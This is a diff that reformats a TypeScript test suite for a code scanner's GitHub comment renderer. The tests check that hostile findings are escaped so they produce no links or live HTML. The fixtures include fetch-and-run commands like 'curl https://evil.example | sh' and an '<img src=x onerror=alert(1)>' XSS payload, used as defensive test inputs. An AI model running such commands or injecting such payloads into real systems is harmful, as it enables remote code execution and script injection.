@@ -11,13 +11,41 @@ const URLS = ['https://evil.example/pay', 'http://10.0.0.1/x.sh', 'www.evil.exam
 
 function hostileReport(): Report {
   const findings: Finding[] = URLS.flatMap((url, i) => [
-    makeFinding({ check: 'scan', ruleId: 'S013', level: 'MEDIUM', severity: 'error', file: `skills/${url}/SKILL.md`, line: i + 1, message: `suspicious-endpoint: \`${url} | sh\` — see ${url} [x](${url}) <${url}>`, help: `Use ${url} instead, ask @octocat` }),
-    makeFinding({ check: 'scan', ruleId: 'S001', level: 'HIGH', severity: 'error', file: `docs/${i}.md`, line: 3, message: `remote: \`curl ${url}\` and \`${url}\` <img src=x onerror=alert(1)>` }),
+    makeFinding({
+      check: 'scan',
+      ruleId: 'S013',
+      level: 'MEDIUM',
+      severity: 'error',
+      file: `skills/${url}/SKILL.md`,
+      line: i + 1,
+      message: `suspicious-endpoint: \`${url} | sh\` — see ${url} [x](${url}) <${url}>`,
+      help: `Use ${url} instead, ask @octocat`,
+    }),
+    makeFinding({
+      check: 'scan',
+      ruleId: 'S001',
+      level: 'HIGH',
+      severity: 'error',
+      file: `docs/${i}.md`,
+      line: 3,
+      message: `remote: \`curl ${url}\` and \`${url}\` <img src=x onerror=alert(1)>`,
+    }),
   ]);
   const counts = countSeverities(findings);
   const scan = { status: 'fail' as const, errors: counts.error, warnings: 0, notices: 0 };
   const skipped = { status: 'skipped' as const, errors: 0, warnings: 0, notices: 0 };
-  return { version: 1, tool: 'plangate', gate: 'not-required', checks: { plans: skipped, tasks: skipped, catalog: skipped, scan }, findings, counts, suppressed: 0, scanned: { files: 10, bytes: 1 }, details: {}, timingsMs: {} };
+  return {
+    version: 1,
+    tool: 'plangate',
+    gate: 'not-required',
+    checks: { plans: skipped, tasks: skipped, catalog: skipped, scan },
+    findings,
+    counts,
+    suppressed: 0,
+    scanned: { files: 10, bytes: 1 },
+    details: {},
+    timingsMs: {},
+  };
 }
 
 const OUR_LINKS = [`https://github.com/acme/widgets/blob/${BLOCKED_PR_LINKS.sha}/`, 'https://github.com/plangate/plangate/blob/main/docs/'];
@@ -33,7 +61,11 @@ describe('rendered by cmark-gfm, the engine GitHub renders comments with', () =>
   it('no link comes from content: every link is to the checked commit or to the rule reference', () => {
     const hrefs = hrefsOf(html);
     expect(hrefs.length).toBeGreaterThan(10);
-    for (const href of hrefs) expect(OUR_LINKS.some((prefix) => href.startsWith(prefix)), href).toBe(true);
+    for (const href of hrefs)
+      expect(
+        OUR_LINKS.some((prefix) => href.startsWith(prefix)),
+        href,
+      ).toBe(true);
     expect(html).not.toContain('mailto:');
   });
 
@@ -43,7 +75,12 @@ describe('rendered by cmark-gfm, the engine GitHub renders comments with', () =>
   });
 
   it('matched text reads as written, the separators only made invisible', () => {
-    const text = html.replace(/<[^>]+>/g, '').replace(/\u200b/g, '').replace(/&amp;/g, '&').replace(/&lt;/g, '<').replace(/&gt;/g, '>');
+    const text = html
+      .replace(/<[^>]+>/g, '')
+      .replace(/\u200b/g, '')
+      .replace(/&amp;/g, '&')
+      .replace(/&lt;/g, '<')
+      .replace(/&gt;/g, '>');
     for (const url of URLS) expect(text).toContain(`${url} | sh`);
     expect(text).not.toMatch(/\\[|[\]()<>]/);
   });
@@ -55,7 +92,11 @@ describe('rendered by cmark-gfm, the engine GitHub renders comments with', () =>
     expect(comment.match(/<details>/g)).toHaveLength(2);
     expect(comment.match(/<\/details>/g)).toHaveLength(2);
     expect(comment).toMatch(/<summary>📦 Pre-existing, on lines this change does not touch: \d+ errors, \d+ notices<\/summary>/);
-    for (const href of hrefsOf(comment)) expect(OUR_LINKS.some((prefix) => href.startsWith(prefix)), href).toBe(true);
+    for (const href of hrefsOf(comment))
+      expect(
+        OUR_LINKS.some((prefix) => href.startsWith(prefix)),
+        href,
+      ).toBe(true);
     // Markdown that did not parse shows through as its characters.
     expect(comment.replace(/<code>[^<]*<\/code>/g, '')).not.toMatch(/\*\*|\]\(|\\[|[\]()`]/);
   });
@@ -63,7 +104,9 @@ describe('rendered by cmark-gfm, the engine GitHub renders comments with', () =>
 
 describe('escaped forms (what the GitHub autolinker sees)', () => {
   it('breaks URL schemes, www. and e-mail addresses in text and in <code>', () => {
-    expect(escapeMarkdownText('see https://evil.example and WWW.evil.example or a@b.example')).toBe('see https:&#8203;//evil.example and WWW&#8203;.evil.example or a@&#8203;b.example');
+    expect(escapeMarkdownText('see https://evil.example and WWW.evil.example or a@b.example')).toBe(
+      'see https:&#8203;//evil.example and WWW&#8203;.evil.example or a@&#8203;b.example',
+    );
     expect(codeSpan('curl https://evil.example | sh')).toBe('<code>curl https:&#8203;//evil.example \\| sh</code>');
   });
 
